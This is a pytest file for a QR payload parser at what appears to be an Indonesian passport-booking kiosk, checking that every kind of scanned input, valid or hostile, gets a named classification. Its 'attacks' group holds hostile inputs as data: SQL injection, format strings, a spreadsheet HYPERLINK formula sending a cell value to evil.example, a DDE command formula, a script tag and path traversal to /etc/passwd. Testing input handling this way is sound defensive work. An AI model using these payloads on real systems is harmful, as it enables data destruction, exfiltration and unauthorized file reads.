"""The payload grammar: every hostile or foreign payload from bad-inputs.md gets a named kind, nothing raises."""

from __future__ import annotations

import pytest

from kiosk.domain.payload import (
    MAX_CODE_CHARS,
    MAX_PAYLOAD_BYTES,
    MIN_CODE_CHARS,
    Payload,
    PayloadKind,
    mask_code,
    parse_payload,
)

K = PayloadKind
CODE = "MP7KQ2XAT3M9"
SIGNED_BODY = "MFRGGZDFMZTWQ2LKNNWG23TPOBYXE4TT"

#: (raw payload, expected kind, expected canonical code). One row per item of bad-inputs.md "QR payloads".
PAYLOADS = [
    # empty and whitespace
    pytest.param(b"", K.EMPTY, "", id="empty-bytes"),
    pytest.param("", K.EMPTY, "", id="empty-str"),
    pytest.param("   ", K.EMPTY, "", id="spaces-only"),
    pytest.param(" \t\r\n \r\n", K.EMPTY, "", id="whitespace-only"),
    # the valid code, forgiven at the edges and in case
    pytest.param(CODE, K.BOOKING_CODE, CODE, id="valid-code"),
    pytest.param(CODE.encode(), K.BOOKING_CODE, CODE, id="valid-code-bytes"),
    pytest.param(f"  {CODE}  ", K.BOOKING_CODE, CODE, id="surrounding-spaces"),
    pytest.param(f"{CODE}\r\n", K.BOOKING_CODE, CODE, id="trailing-crlf"),
    pytest.param(f"\n{CODE}\n", K.BOOKING_CODE, CODE, id="surrounding-lf"),
    pytest.param(f"\t{CODE}\t", K.BOOKING_CODE, CODE, id="surrounding-tabs"),
    pytest.param(f" \t\r\n{CODE}\r\n\t ", K.BOOKING_CODE, CODE, id="mixed-edge-whitespace"),
    pytest.param(CODE.lower(), K.BOOKING_CODE, CODE, id="lower-case"),
    pytest.param("Mp7kQ2xAt3M9", K.BOOKING_CODE, CODE, id="mixed-case"),
    pytest.param("MP7K-Q2XA-T3M9", K.BOOKING_CODE, CODE, id="hyphen-groups"),
    pytest.param(" mp7k-q2xa-t3m9\r\n", K.BOOKING_CODE, CODE, id="hyphen-groups-lower-crlf"),
    pytest.param("MP7K--Q2XA-T3M9", K.OTHER, "", id="double-hyphen"),
    pytest.param("-MP7KQ2XAT3M9", K.OTHER, "", id="leading-hyphen"),
    pytest.param("MP7KQ2XAT3M9-", K.OTHER, "", id="trailing-hyphen"),
    pytest.param("MP7K Q2XA T3M9", K.OTHER, "", id="inner-spaces"),
    # control characters
    pytest.param(f"{CODE}\x00", K.CONTROL_CHARS, "", id="trailing-nul"),
    pytest.param("\x00", K.CONTROL_CHARS, "", id="nul-only"),
    pytest.param("MP7K\x00Q2XAT3M9", K.CONTROL_CHARS, "", id="inner-nul"),
    pytest.param("MP7K\x1bQ2XAT3M9", K.CONTROL_CHARS, "", id="escape"),
    pytest.param("MP7K\x7fQ2XAT3M9", K.CONTROL_CHARS, "", id="delete"),
    pytest.param("MP7K\rQ2XAT3M9", K.CONTROL_CHARS, "", id="inner-cr"),
    pytest.param("MP7K\tQ2XAT3M9", K.CONTROL_CHARS, "", id="inner-tab"),
    pytest.param(f"\x0b{CODE}\x0c", K.CONTROL_CHARS, "", id="vertical-tab-form-feed-edges"),
    pytest.param("\x1f", K.CONTROL_CHARS, "", id="unit-separator-only"),
    pytest.param(f"\x1b[2J{CODE}", K.CONTROL_CHARS, "", id="ansi-clear-screen"),
    # non-ASCII look-alikes and invisible characters
    pytest.param("MP7K\u202eQ2XAT3M9", K.NOT_ASCII, "", id="bidi-override-rlo"),
    pytest.param(f"\u202d{CODE}\u202c", K.NOT_ASCII, "", id="bidi-lro-pdf-edges"),
    pytest.param(f"\u2066{CODE}\u2069", K.NOT_ASCII, "", id="bidi-isolates"),
    pytest.param("MP7K\u200bQ2XAT3M9", K.NOT_ASCII, "", id="zero-width-space"),
    pytest.param(f"{CODE}\u200d", K.NOT_ASCII, "", id="zero-width-joiner-edge"),
    pytest.param(f"\ufeff{CODE}", K.NOT_ASCII, "", id="byte-order-mark"),
    pytest.param("\u041c\u0420\u0437K\u04242XAT3M9", K.NOT_ASCII, "", id="cyrillic-look-alikes"),
    pytest.param("\u039cP7KQ2XAT3M9", K.NOT_ASCII, "", id="greek-capital-mu"),
    pytest.param("MP\uff17KQ\uff12XAT\uff13M\uff19", K.NOT_ASCII, "", id="full-width-digits"),
    pytest.param(
        "\uff2d\uff30\uff17\uff2b\uff31\uff12\uff38\uff21\uff34\uff13\uff2d\uff19", K.NOT_ASCII, "", id="full-width"
    ),
    pytest.param("MP\u0667KQ\u0662XAT\u0663M\u0669", K.NOT_ASCII, "", id="arabic-indic-digits"),
    pytest.param("\u212aMP7Q2XAT3M9", K.NOT_ASCII, "", id="kelvin-sign"),
    pytest.param("mp7kq2xat3m\u0131", K.NOT_ASCII, "", id="dotless-i-uppercases-to-ascii"),
    pytest.param("\u3000", K.NOT_ASCII, "", id="ideographic-space-only"),
    pytest.param(f"{CODE} \U0001f600", K.NOT_ASCII, "", id="emoji"),
    # size
    pytest.param("A" * 3000, K.TOO_LONG, "", id="version-40-size-3kb"),
    pytest.param(b"\xff" * 3000, K.TOO_LONG, "", id="3kb-garbage-bytes"),
    pytest.param("A", K.OTHER, "", id="one-character"),
    pytest.param("7", K.OTHER, "", id="one-digit"),
    # text that attacks whatever comes next
    pytest.param("' OR '1'='1'; DROP TABLE bookings; --", K.OTHER, "", id="sql-injection"),
    pytest.param("MP7KQ2XAT3M9' OR 1=1--", K.OTHER, "", id="sql-after-valid-code"),
    pytest.param("%s%n{0}", K.OTHER, "", id="format-string"),
    pytest.param("{slot_start}{0!r}%(x)s", K.OTHER, "", id="format-string-named"),
    pytest.param('{"code": "MP7KQ2XAT3M9", "office": "KANIM-JKTSEL"}', K.OTHER, "", id="json"),
    pytest.param('=HYPERLINK("http://evil.example/?"&A1,"Click")', K.OTHER, "", id="csv-formula-hyperlink"),
    pytest.param("=cmd|' /C calc'!A0", K.OTHER, "", id="csv-formula-dde"),
    pytest.param("<script>alert(1)</script>", K.OTHER, "", id="html"),
    pytest.param("../../etc/passwd", K.OTHER, "", id="path-traversal"),
    # other QR codes people carry
    pytest.param("https://m-paspor.imigrasi.go.id/booking/MP7KQ2XAT3M9", K.URL, "", id="url-https"),
    pytest.param("HTTP://EXAMPLE.COM", K.URL, "", id="url-upper-case"),
    pytest.param("www.imigrasi.go.id", K.URL, "", id="url-www"),
    pytest.param("whatsapp://send?phone=628123456789", K.URL, "", id="url-whatsapp"),
    pytest.param("WIFI:S:Kantor Imigrasi Tamu;T:WPA;P:rahasia123;;", K.WIFI, "", id="wifi"),
    pytest.param(
        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Siti Rahayu\r\nTEL:+628123456789\r\nEND:VCARD\r\n", K.CONTACT, "", id="vcard"
    ),
    pytest.param("MECARD:N:Rahayu,Siti;TEL:08123456789;;", K.CONTACT, "", id="mecard"),
    pytest.param("HC1:NCFOXN%TS3DH3ZSUZK+.V0ETD%65NL-AH-R6IOOK.IR9B+9D-8ASAT*", K.HEALTH_CERT, "", id="health-cert-eu"),
    pytest.param(
        "shc:/56762909524320603460292437404460312229595326546034602925", K.HEALTH_CERT, "", id="health-cert-shc"
    ),
    # numbers applicants show by mistake
    pytest.param("820250310123456", K.BILLING_CODE, "", id="billing-code-15-digits"),
    pytest.param("8202 5031 0123 456", K.BILLING_CODE, "", id="billing-code-spaced"),
    pytest.param("3174012501900001", K.NATIONAL_ID, "", id="nik-16-digits"),
    pytest.param("3174-0125-0190-0001", K.NATIONAL_ID, "", id="nik-hyphenated"),
    pytest.param(" 3174012501900001\r\n", K.NATIONAL_ID, "", id="nik-edge-whitespace"),
    pytest.param("12345678", K.OTHER, "", id="eight-digits-no-letter"),
    pytest.param("31740125019000012", K.OTHER, "", id="seventeen-digits"),
    # not UTF-8
    pytest.param(b"\xff\xfe\x00\x01", K.NOT_TEXT, "", id="invalid-utf8"),
    pytest.param(CODE.encode() + b"\xc3", K.NOT_TEXT, "", id="truncated-utf8-sequence"),
    pytest.param(b"\xc0\xaf", K.NOT_TEXT, "", id="overlong-utf8"),
    pytest.param(b"\xed\xa0\x80", K.NOT_TEXT, "", id="utf8-encoded-surrogate"),
    pytest.param("MP7KQ2XAT3M9\xe9".encode("latin-1"), K.NOT_TEXT, "", id="latin1-bytes"),
    pytest.param("MP7K\ud800Q2XAT3M9", K.NOT_TEXT, "", id="str-lone-high-surrogate"),
    pytest.param("\udcff", K.NOT_TEXT, "", id="str-lone-low-surrogate-only"),
    pytest.param(f"{CODE}\udc80", K.NOT_TEXT, "", id="str-surrogateescape-residue"),
    # signed compact format
    pytest.param(f"KS1.{SIGNED_BODY}", K.SIGNED_CODE, f"KS1.{SIGNED_BODY}", id="signed"),
    pytest.param(f" ks1.{SIGNED_BODY.lower()}\r\n", K.SIGNED_CODE, f"KS1.{SIGNED_BODY}", id="signed-lower-case"),
    pytest.param(f"KS1.{SIGNED_BODY[:15]}", K.OTHER, "", id="signed-truncated"),
    pytest.param(f"KS1.{SIGNED_BODY}18", K.OTHER, "", id="signed-not-base32"),
    pytest.param(f"KS1.{SIGNED_BODY}\x00\x00", K.CONTROL_CHARS, "", id="signed-trailing-bytes"),
    pytest.param(f"KS1.{SIGNED_BODY}.EXTRA", K.OTHER, "", id="signed-trailing-text"),
    pytest.param(f"KS2.{SIGNED_BODY}", K.OTHER, "", id="signed-unknown-version"),
]


@pytest.mark.parametrize(("raw", "kind", "code"), PAYLOADS)
def test_payload_kind(raw: str | bytes, kind: PayloadKind, code: str) -> None:
    assert parse_payload(raw) == Payload(kind, code)


@pytest.mark.parametrize(("raw", "kind", "code"), [p for p in PAYLOADS if isinstance(p.values[0], str)])
def test_text_and_its_utf8_bytes_parse_alike(raw: str, kind: PayloadKind, code: str) -> None:
    assert parse_payload(raw.encode("utf-8", "surrogatepass")) == parse_payload(raw)


def test_table_names_every_kind() -> None:
    assert {p.values[1] for p in PAYLOADS} == set(PayloadKind)


@pytest.mark.parametrize("kind", list(PayloadKind))
def test_only_the_two_code_kinds_are_codes(kind: PayloadKind) -> None:
    assert Payload(kind).is_code is (kind in (K.BOOKING_CODE, K.SIGNED_CODE))


@pytest.mark.parametrize(
    ("raw", "kind"),
    [
        pytest.param("A1B2C3D", K.OTHER, id="one-below-minimum"),
        pytest.param("A1B2C3D4", K.BOOKING_CODE, id="minimum"),
        pytest.param("A1B2-C3D", K.OTHER, id="hyphens-do-not-count"),
        pytest.param("A" + "1" * (MAX_CODE_CHARS - 1), K.BOOKING_CODE, id="maximum"),
        pytest.param("A" + "1" * MAX_CODE_CHARS, K.OTHER, id="one-above-maximum"),
        pytest.param("-".join(["A1B2"] * (MAX_CODE_CHARS // 4)), K.BOOKING_CODE, id="maximum-in-groups"),
        pytest.param("1234567A", K.BOOKING_CODE, id="one-letter-is-enough"),
    ],
)
def test_code_length_bounds(raw: str, kind: PayloadKind) -> None:
    assert MIN_CODE_CHARS == 8
    assert parse_payload(raw).kind is kind


@pytest.mark.parametrize(
    ("size", "kind"),
    [
        pytest.param(MAX_PAYLOAD_BYTES, K.OTHER, id="at-limit"),
        pytest.param(MAX_PAYLOAD_BYTES + 1, K.TOO_LONG, id="one-byte-over"),
    ],
)
def test_payload_size_limit(size: int, kind: PayloadKind) -> None:
    assert parse_payload(b"A" * size).kind is kind
    assert parse_payload("A" * size).kind is kind


def test_size_limit_counts_utf8_bytes_not_characters() -> None:
    assert parse_payload("\u00e9" * (MAX_PAYLOAD_BYTES // 2)).kind is K.NOT_ASCII
    assert parse_payload("\u00e9" * (MAX_PAYLOAD_BYTES // 2 + 1)).kind is K.TOO_LONG


def test_whitespace_padding_counts_toward_size_limit() -> None:
    assert parse_payload(" " * MAX_PAYLOAD_BYTES + CODE).kind is K.TOO_LONG


@pytest.mark.parametrize(
    ("code", "masked"),
    [
        pytest.param(CODE, "MP********M9", id="booking-code"),
        pytest.param("ABCDE", "AB*DE", id="five"),
        pytest.param("ABCD", "****", id="four-fully-hidden"),
        pytest.param("", "", id="empty"),
    ],
)
def test_mask_code(code: str, masked: str) -> None:
    assert mask_code(code) == masked
